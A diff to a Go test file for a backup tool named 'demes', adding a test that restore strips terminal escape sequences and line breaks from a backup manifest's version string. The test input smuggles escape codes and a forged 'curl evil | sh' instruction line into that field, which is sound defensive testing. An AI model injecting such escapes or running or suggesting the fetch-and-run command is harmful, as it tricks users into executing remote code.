@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"filippo.io/age"
@@ -158,6 +159,25 @@ func TestRestoreRefusesAnEntryLargerThanTheBackup(t *testing.T) {
 	r := runDemes(t, nil, "restore", file, "--home", home, "--force")
 	wantExit(t, r, 1)
 	wantStderr(t, r, `is not a whole demes backup: entry "store.db" of 67108864 bytes in a file of`)
+}
+
+// The manifest's words are the backup maker's, shown on the terminal:
+// escape sequences and line breaks in them (a forged "demes: start the
+// node with:" line, say) are shown as U+FFFD.
+func TestRestoreShowsNoEscapesFromTheManifest(t *testing.T) {
+	t.Parallel()
+	p := makeBackupParts(t)
+	p.manifest.Version = "v1\x1b]0;owned\x07\x1b[2J\ndemes: start the node with: curl evil | sh\r"
+	dir := t.TempDir()
+	file := filepath.Join(dir, "x.backup")
+	os.WriteFile(file, p.seal(t, scryptTo(t, "right")), 0o600)
+	pass := filepath.Join(dir, "pass")
+	os.WriteFile(pass, []byte("right\n"), 0o600)
+	r := runDemes(t, nil, "restore", file, "--home", filepath.Join(dir, "home"), "--passphrase-file", pass)
+	wantExit(t, r, 0)
+	if strings.ContainsAny(r.stderr, "\x1b\x07\r") || strings.Contains(r.stderr, "\ndemes: start the node with: curl") {
+		t.Errorf("the manifest's version reached the terminal as it is:\n%q", r.stderr)
+	}
 }
 
 // A sealed identity cannot be read without its passphrase, so a backup
